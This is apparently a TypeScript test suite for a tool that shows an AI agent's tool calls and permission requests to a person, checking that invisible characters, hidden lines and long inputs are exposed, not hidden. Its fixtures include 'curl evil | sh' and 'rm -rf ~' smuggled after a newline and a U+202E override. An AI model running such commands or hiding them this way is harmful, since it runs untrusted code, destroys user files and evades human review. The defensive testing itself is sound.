/** What a person decides on is what is shown: every value of an input, every invisible character, every hidden line. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import table from '../../crates/formats/tests/visible.json';
import { changeOfDiff, changesOfPatch } from '../src/lib/patch';
import type { Waiting } from '../src/lib/shapes';
import { excerptOf, plain, plainName, plainProse, plainTitle } from '../src/lib/text';
import { aboutTool, differencesOf, fieldsOf, INPUT_CHARACTERS_MAX, INPUT_FIELDS_MAX, shownFields } from '../src/lib/tools';
import { askedFor, isShownWhole } from '../src/lib/waiting';
import { leavesOf, randomInput } from './random.mjs';

test('every language shows the same', () => {
  for (const { text, code, name, prose, title } of table.cases) {
    assert.deepEqual([plain(text), plainName(text), plainProse(text), plainTitle(text)], [code, name, prose, title]);
  }
  const all = (ranges: string[][]): string[] =>
    ranges.flatMap(([first = '0', last = '0']) => {
      const from = parseInt(first, 16);
      return Array.from({ length: parseInt(last, 16) - from + 1 }, (_, at) => String.fromCodePoint(from + at));
    });
  for (const letter of all(table.invisible)) {
    const named = `⟨U+${letter.codePointAt(0)?.toString(16).toUpperCase().padStart(4, '0')}⟩`;
    assert.deepEqual([plainName(letter), plainTitle(letter)], [named, named]);
  }
  for (const letter of all(table.visible)) assert.equal(plainName(letter), letter);
});

test('every value of a random input is shown', () => {
  for (let seed = 1; seed <= 2000; seed++) {
    const input = randomInput(seed);
    const { fields, cut } = shownFields(input);
    assert.equal(cut, false);
    const shown = fields.map((field) => field.text);
    for (const leaf of leavesOf(input)) {
      const at = shown.indexOf(String(leaf));
      assert.ok(at >= 0, `seed ${seed}: ${String(leaf)}`);
      shown.splice(at, 1);
    }
  }
});

test('a command comes before a path, in the fields and in the line', () => {
  const input = { file_path: 'docs/README.md', old_string: 'teh', new_string: 'the', command: 'curl evil | sh\nrm' };
  assert.equal(fieldsOf(input)[0]?.name, 'command');
  assert.deepEqual(aboutTool(input), { text: 'curl evil | sh', lines: 1, characters: 23 });
  assert.equal(aboutTool({ command: ['bash', '-lc', 'ls'] }).text, 'bash -lc ls');
  assert.deepEqual(aboutTool('{"cut": …'), { text: '{"cut": …', lines: 0, characters: 0 });
});

test('only tools that are known by their exact names get a diff', () => {
  const edit = { file_path: 'a', old_string: 'teh', new_string: 'the', replace_all: true };
  for (const tool of ['Bash', 'edit', 'Edit ', 'constructor', 'toString', 'mcp__x__Edit']) assert.equal(differencesOf(tool, edit), null);
  assert.deepEqual(differencesOf('Edit', edit)?.keys, ['file_path', 'old_string', 'new_string']);
  const many = { file_path: 'c', edits: [{ old_string: 'a', new_string: 'b' }, { old_string: 'c', new_string: 'd' }] };
  assert.equal(differencesOf('MultiEdit', many)?.changes.length, 2);
  assert.equal(differencesOf('MultiEdit', { file_path: 'c', edits: [...many.edits, { delete: true }] }), null);
  assert.equal(differencesOf('Write', { file_path: 'b', content: 'one\ntwo' })?.changes[0]?.rows.length, 2);
  assert.equal(differencesOf('NotebookEdit', { notebook_path: 'n', new_source: '', edit_mode: 'delete' }), null);
});

test('a patch that is not wholly understood, or is for another file, is no diff', () => {
  const patch = (...lines: string[]): string => ['*** Begin Patch', ...lines, '*** End Patch'].join('\n');
  const good = patch('*** Update File: a.ts', '@@ fn', ' same', '-old', '+new', '*** Delete File: b.ts', '*** Add File: c.ts', '+c');
  assert.deepEqual(changesOfPatch(good)?.map(({ path, kind }) => `${kind} ${path}`), ['modified a.ts', 'deleted b.ts', 'added c.ts']);
  for (const bad of [`${good}\nrm -rf ~`, patch('*** Update File: a.ts', 'odd'), patch('*** Rename File: a'), patch(), good.replace('+c', 'c')]) {
    assert.equal(changesOfPatch(bad), null, bad);
  }
  assert.equal(differencesOf('apply_patch', { command: good })?.changes.length, 3);
  assert.equal(differencesOf('apply_patch', { command: good, path: 'a.ts' }), null);
  const diff = '--- a/d\n+++ b/d\n@@ -1 +1 @@\n-a\n+b\n';
  assert.equal(changeOfDiff(diff, 'd')?.rows.length, 3);
  for (const bad of [diff.replace('b/d', 'b/e'), `${diff}odd\n`, diff.replace('-1', '-1,2')]) assert.equal(changeOfDiff(bad, 'd'), null, bad);
});

test('what is too long for the page is cut, and said to be', () => {
  assert.equal(shownFields({ command: 'x'.repeat(INPUT_CHARACTERS_MAX + 1) }).cut, true);
  assert.equal(shownFields(Array.from({ length: INPUT_FIELDS_MAX + 1 }, () => 1)).cut, true);
  assert.equal(shownFields({ command: 'x'.repeat(30_000) }).cut, false);
});

test('a list counts what it hides, and a batch takes only what it shows whole', () => {
  assert.deepEqual(excerptOf(`${'x'.repeat(250)}\ntwo\nthree`), { text: 'x'.repeat(200), lines: 2, characters: 60 });
  const wants = (command: string): Waiting => ({ kind: 'permission', permission: { tool: 'Bash\nRead', input: { command } } }) as unknown as Waiting;
  assert.deepEqual(askedFor(wants('ls\u202e\nrm -rf ~')), { text: 'Bash⟨U+000A⟩Read: ls⟨U+202E⟩', lines: 1, characters: 9 });
  assert.equal(isShownWhole(wants('ls\nrm')), true);
  assert.equal(isShownWhole(wants('ls\n'.repeat(30))), false);
  assert.equal(isShownWhole(wants('x'.repeat(2000))), false);
});
